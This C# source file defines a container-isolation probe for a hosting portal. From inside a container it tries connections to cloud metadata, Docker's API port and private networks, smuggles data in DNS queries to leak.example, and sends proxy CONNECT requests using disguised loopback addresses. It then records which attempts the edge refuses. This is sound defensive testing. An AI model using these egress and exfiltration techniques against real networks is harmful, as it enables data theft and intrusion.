using System.Collections.Concurrent;
using System.Net;
using System.Net.Sockets;

namespace Kiket.Portal.Hosting;

/// <summary>
/// Runs inside a container and tries to get out of it. Harmless where something does get out: it only connects, to addresses that
/// are reserved for documentation or belong to the container's own machine, and sends nothing that means anything.
/// </summary>
public sealed class LeakProbe(IPAddress edge)
{
    /// <summary>The command of the portal that runs it.</summary>
    public const string Command = "hosting probe";

    /// <summary>Fewer attempts than this mean that the probe didn't run as it should.</summary>
    public const int Least = 60;

    private readonly ConcurrentBag<LeakAttempt> _attempts = [];
    private readonly LeakNetwork _network = new(edge);

    /// <returns>All attempts, by name. None of them throws.</returns>
    public async Task<IReadOnlyList<LeakAttempt>> RunAsync(CancellationToken cancellationToken)
    {
        await Task.WhenAll([.. Outside(), .. Inside(), .. ThroughEdge(), .. Rights(), .. Controls()]).WaitAsync(cancellationToken);
        return [.. _attempts.OrderBy(attempt => attempt.Name, StringComparer.Ordinal)];
    }

    /// <summary>Addresses beyond the container's network.</summary>
    private IEnumerable<Task> Outside()
    {
        foreach (var port in new[] { 22, 25, 53, 80, 443, 8080 })
        {
            yield return TryAsync($"Connect to a public address on port {port}", () => _network.ConnectAsync("192.0.2.1", port));
        }

        foreach (var (name, address, port) in new[]
        {
            ("a second public address", "198.51.100.1", 443), ("a third public address", "203.0.113.1", 443), ("cloud metadata", "169.254.169.254", 80),
            ("Azure's wire server", "168.63.129.16", 80), ("a private network", "10.0.0.1", 80), ("another private network", "172.16.0.1", 80),
            ("a home network", "192.168.0.1", 80), ("a shared address", "100.64.0.1", 80), ("Docker's bridge", "172.17.0.1", 2375),
            ("podman's bridge", "10.88.0.1", 53), ("a benchmarking network", "198.18.0.1", 80),
        })
        {
            yield return TryAsync($"Connect to {name}", () => _network.ConnectAsync(address, port));
        }

        foreach (var (name, address, port) in new[]
        {
            ("a name server", "192.0.2.53", 53), ("a time server", "192.0.2.123", 123), ("QUIC", "192.0.2.1", 443), ("multicast names", "224.0.0.251", 5353),
            ("the whole network", "255.255.255.255", 67), ("Docker's name server", "127.0.0.11", 53),
        })
        {
            yield return TryAsync($"Send a datagram to {name}", () => _network.SendAsync(address, port));
        }

        foreach (var (name, address) in new[]
        {
            ("a public address", "2001:db8::1"), ("a mapped address", "::ffff:192.0.2.1"), ("a private address", "fd00::1"),
            ("the neighbours", "ff02::1"), ("a translated address", "64:ff9b::c000:201"),
        })
        {
            yield return TryAsync($"Send to {name} over IPv6", () => _network.SendAsync(address, 443));
        }

        yield return TryAsync("Find an IPv6 address of its own", _network.OwnIPv6Async);
        yield return TryAsync("Find a default route", LeakNetwork.DefaultRouteAsync);
    }

    /// <summary>Addresses and ports of its own network.</summary>
    private IEnumerable<Task> Inside()
    {
        foreach (var (number, port) in new[] { (1, 22), (1, 80), (1, 443), (1, 53), (3, 80), (4, 80), (5, 80) })
        {
            yield return TryAsync($"Connect to neighbour {number} on port {port}", () => _network.ConnectNeighbourAsync(number, port));
        }

        foreach (var port in new[] { 22, 2375, 3129, 5000, 8080, 9090 })
        {
            yield return TryAsync($"Connect to the edge on port {port}", () => _network.ConnectAsync(edge.ToString(), port));
        }

        yield return TryAsync("Ask the edge for names over TCP", () => _network.ConnectAsync(edge.ToString(), 53));
    }

    /// <summary>Calls that the edge must refuse.</summary>
    private IEnumerable<Task> ThroughEdge()
    {
        foreach (var (name, type) in new[] { ("TXT", 16), ("AAAA", 28), ("MX", 15), ("NS", 2), ("SVCB", 64), ("HTTPS", 65), ("ANY", 255), ("AXFR", 252) })
        {
            yield return TryAsync($"Send data in a {name} query", () => _network.AskAsync("c2VjcmV0.leak.example", type));
        }

        yield return TryAsync("Send data in a long name", () => _network.AskAsync($"{new string('a', 63)}.{new string('b', 63)}.leak.example", 1));
        foreach (var name in new[] { "leak.example", "metadata.google.internal", "localhost", "www.example.com", "xn--e1awd7f.com" })
        {
            yield return TryAsync($"Open TLS to {name}", () => _network.TlsAsync(name));
        }

        yield return TryAsync("Open TLS without a server name", () => _network.TlsAsync(""));
        foreach (var text in new[] { "GET / HTTP/1.1\r\nHost: leak.example\r\n\r\n", "SSH-2.0-leak\r\n", "\u0016\u0003\u0001\u00ff\u00ff", "\0\0\0\0" })
        {
            yield return TryAsync($"Send \"{Short(text)}\" on port 443", () => _network.RawAsync(443, text));
        }

        foreach (var target in new[]
        {
            "leak.example:443", "leak.example:22", "192.0.2.1:443", "[2001:db8::1]:443", "127.0.0.1:443", "localhost:443", "169.254.169.254:80",
            "2130706433:443", "0x7f000001:443", "127.1:443", "leak.example", "leak.example:443@edge", "*.example.com:443",
        })
        {
            yield return TryAsync($"CONNECT {target}", () => _network.RawAsync(3128, $"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"));
        }

        yield return TryAsync("GET http://leak.example/ through the proxy", () => _network.RawAsync(3128, "GET http://leak.example/ HTTP/1.1\r\n\r\n"));
        yield return TryAsync("POST through the proxy to itself", () => _network.RawAsync(3128, $"POST http://{edge}:3129/edge/snapshot HTTP/1.1\r\n\r\n"));
        yield return TryAsync("GET over plain HTTP", () => _network.RawAsync(80, "GET / HTTP/1.1\r\nHost: leak.example\r\n\r\n"));
    }

    private IEnumerable<Task> Rights() => LeakRights.All.Select(right => TryAsync(right.Name, () => Task.FromResult(right.Check())));

    /// <summary>What must work: without it, the refusals above could come from a container that reaches nothing at all.</summary>
    private IEnumerable<Task> Controls()
    {
        yield return TryAsync("The edge gives its own address for every name", () => _network.NamesLeadToEdgeAsync());
        yield return TryAsync("The edge names its reason", () => _network.ReasonAsync());
    }

    private async Task TryAsync(string name, Func<Task<LeakResult>> attempt)
    {
        LeakResult result;
        try
        {
            result = await attempt();
        }
        catch (SocketException exception)
        {
            result = LeakResult.Refused(exception.SocketErrorCode.ToString());
        }
        catch (Exception exception)
        {
            // An attempt that fails in a way that isn't expected shows nothing, and must not count as held.
            result = LeakResult.Unclear($"Failed: {exception.Message}");
        }

        _attempts.Add(new LeakAttempt(name, result.Leaked, result.Text) { IsUnclear = result.IsUnclear });
    }

    private static string Short(string text) => string.Concat(text.Take(12).Select(letter => letter is >= ' ' and <= '~' ? letter : '.'));
}

/// <summary>What came of an attempt.</summary>
internal readonly record struct LeakResult(bool Leaked, string Text)
{
    /// <summary>See <see cref="LeakAttempt.IsUnclear"/>.</summary>
    public bool IsUnclear { get; private init; }

    public static LeakResult Refused(string text) => new(false, text);

    public static LeakResult Leak(string text) => new(true, text);

    public static LeakResult Unclear(string text) => new(false, text) { IsUnclear = true };
}
